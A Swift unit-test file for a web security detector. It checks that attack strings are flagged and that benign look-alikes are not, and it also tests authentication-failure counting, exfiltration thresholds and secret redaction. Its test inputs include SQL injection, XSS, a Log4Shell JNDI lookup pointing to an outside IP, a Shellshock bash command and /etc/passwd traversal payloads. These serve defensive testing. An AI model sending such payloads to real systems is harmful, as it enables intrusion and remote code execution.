import DSLBase
import Testing

@testable import DecisionEngine

extension SecuritySignal {
  /// A request from an address.
  static func request(
    _ attributes: [String: String], from source: String? = "203.0.113.9", at seconds: Double = 0,
    body: String = ""
  ) -> Self {
    var all = attributes
    if let source { all["client.address"] = source }
    return SecuritySignal(
      at: Timestamp(seconds: 1_700_000_000 + seconds), service: "shop", body: body, attributes: all)
  }
}

/// Attacks are found, and what looks like one and is none is not.
@Suite struct EventWatchTests {
  private func events(_ signals: [SecuritySignal]) -> [SecurityEvent] {
    var watch = EventWatch()
    return signals.flatMap { watch.take($0) }
  }

  @Test(arguments: [
    ("url.query", "id=1' OR '1'='1", "sql_injection"),
    ("url.query", "id=1%27%20oR%201%3D1--", "sql_injection"),
    ("url.query", "id=1%2527%2520or%25201%253D1", "sql_injection"),
    ("url.query", "q=1'/**/or/**/1=1", "sql_injection"),
    ("url.query", "q=-1+UNION+ALL+SELECT+null,null--", "sql_injection"),
    ("http.target", "/items?name=x';DROP TABLE users", "sql_injection"),
    ("url.query", "q=1;waitfor delay '0:0:5'", "sql_injection"),
    ("url.query", "q=%3Cscript%3Ealert(1)%3C/script%3E", "code_injection"),
    ("http.request.header.x-api-version", "${jndi:ldap://198.51.100.1/a}", "code_injection"),
    ("user_agent.original", "() { :;}; /bin/bash -c id", "code_injection"),
    ("url.path", "/static/../../../etc/passwd", "path_traversal"),
    ("url.path", "/static/%2e%2e%2f%2e%2e%2fetc/passwd", "path_traversal"),
    ("url.path", "/.git/config", "probing"),
  ])
  func anAttackIsFound(key: String, value: String, rule: String) throws {
    let found = events([.request([key: value])])
    let event = try #require(found.first { $0.rule == rule }, "\(value) is not found: \(found)")
    #expect(event.source == "203.0.113.9" && event.service == "shop")
  }

  @Test(arguments: [
    ("url.query", "q=trade+union+select+committee+reports"),
    ("url.query", "q='cats' or 'dogs'"), ("url.query", "name=O'Reilly or O'Brien"),
    ("url.query", "filter=price=10 or size=10"), ("url.query", "redirect=/orders?a=1&b=1"),
    ("url.query", "q=how to drop a table in sql"), ("url.query", "q=javascript: the good parts"),
    ("url.query", "text=the <scripture> of old"), ("url.path", "/docs/environment"),
    ("url.path", "/docs/.env.example.html"), ("url.path", "/a/../b"), ("url.path", "/users/admin"),
    ("url.path", "/blog/git-config-tips"), ("user_agent.original", "curl/8.5.0"),
    ("user_agent.original", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"),
    ("db.query.text", "SELECT a FROM t WHERE id = '1' OR '1'='1' UNION SELECT null --"),
    ("url.query", "percent=100%&x=%zz"),
  ])
  func aNearMissIsNone(key: String, value: String) {
    #expect(events([.request([key: value])]).isEmpty, "\(value)")
  }

  @Test func failuresToAuthenticateCountBySourceAndTime() {
    func failures(_ count: Int, every: Double, from source: String = "203.0.113.9") -> [SecuritySignal] {
      (0..<count).map { .request(["http.response.status_code": "401"], from: source, at: Double($0) * every) }
    }
    #expect(events(failures(4, every: 1)).isEmpty, "a few typing errors")
    #expect(events(failures(200, every: 20)).isEmpty, "a token that is renewed now and then")
    #expect(events((0..<50).flatMap { failures(1, every: 1, from: "203.0.113.\($0)") }).isEmpty)
    let found = events(failures(120, every: 0.4))
    #expect(found.map(\.level) == [.medium, .high, .critical] && found.map(\.count) == [5, 20, 100])
    #expect(found.allSatisfy { $0.type == .authFailure && $0.rule == "repeated_auth_failures" })
    let logs = (0..<6).map {
      SecuritySignal(
        at: Timestamp(seconds: 1_700_000_000 + Double($0)), service: "sshd",
        body: "Failed password for root from 203.0.113.9 port 22",
        attributes: ["source.address": "203.0.113.9"])
    }
    #expect(events(logs).map(\.level) == [.medium])
    #expect(
      events(
        logs.map {
          var log = $0; log.body = "Accepted password for root"; return log
        }
      ).isEmpty)
  }

  @Test func bytesOutAreAddedUpAndOrdinaryDownloadsAreNot() {
    func sent(_ bytes: Int, _ count: Int, every: Double) -> [SecuritySignal] {
      (0..<count).map { .request(["http.response.body.size": "\(bytes)"], at: Double($0) * every) }
    }
    #expect(events(sent(50_000_000, 5, every: 10)).isEmpty)
    #expect(events(sent(50_000_000, 100, every: 120)).isEmpty, "as much, but over hours")
    let found = events(sent(50_000_000, 6, every: 10))
    #expect(found.map(\.type) == [.dataExfiltration] && found.first?.level == .high)
    #expect(
      events([.request(["http.response.body.size": "NaN"]), .request(["http.response.body.size": "-5"])])
        .isEmpty)
  }

  @Test func anAttackThatGoesOnIsOneEventUntilItsWindowIsOver() {
    let attack = { (at: Double) in SecuritySignal.request(["url.query": "id=1' or '1'='1"], at: at) }
    #expect(events((0..<15).map { attack(Double($0)) }).map(\.level) == [.high])
    #expect(events([attack(0), attack(301)]).count == 2)
  }

  @Test func anotherProcessGoesOnCounting() throws {
    var watch = EventWatch()
    let failure = { (at: Double) in SecuritySignal.request(["http.response.status_code": "401"], at: at) }
    for second in 0..<4 { #expect(watch.take(failure(Double(second))).isEmpty) }
    var later = EventWatch(json: try JSONParser.parse(Array(watch.json.text().utf8)))
    #expect(later == watch)
    #expect(later.take(failure(4)).map(\.level) == [.medium])
    later.forget(before: Timestamp(seconds: 1_700_000_000 + 10_000))
    #expect(later.counts.isEmpty)
    var anew = EventWatch(json: ["x": 3])
    #expect(anew.take(failure(0)).isEmpty, "what cannot be read is begun anew")
  }

  @Test func sourcesAreBounded() {
    var watch = EventWatch(rules: EventRule.standard.filter { $0.name == "repeated_auth_failures" })
    for number in 0..<5000 {
      _ = watch.take(
        .request(["http.response.status_code": "401"], from: "s\(number)", at: Double(number) / 1000))
    }
    #expect(watch.counts.count <= EventWatch.sourceLimit)
    #expect(watch.counts.count + watch.forgotten == 5000 && watch.forgotten <= 1024)
    #expect(watch.counts.keys.contains { $0.hasSuffix("s4999") }, "the latest is kept")
  }

  @Test(arguments: [
    ("password=hunter2 user=bob", "password=*** user=bob"),
    ("Authorization: Bearer abc.def", "Authorization: Bearer ***"),
    (#"{"api_key": "k-1", "id": 7}"#, #"{"api_key": "***", "id": 7}"#),
    ("postgres://app:pw@db/x", "postgres://***@db/x"),
    ("key 0123456789abcdef0123456789abcdef01 end", "key *** end"),
    ("a\u{1B}[31mred\u{202E}x\ny", "a [31mred x y"), ("nothing secret here", "nothing secret here"),
    ("tokens are fine: a word", "tokens are fine: a word"),
  ])
  func secretsAreNotKept(text: String, shown: String) { #expect(Redaction.text(text) == shown) }

  @Test func evidenceIsBoundedAndWithoutSecrets() throws {
    let query = "password=hunter2&id=1' or '1'='1'--" + String(repeating: "x", count: 10_000)
    let event = try #require(events([.request(["url.query": query])]).first)
    #expect(event.evidence.count <= 200 && !event.evidence.contains("hunter2"))
    #expect(try SecurityEvent(json: JSONParser.parse(Array(event.json.text().utf8))) == event)
  }
}
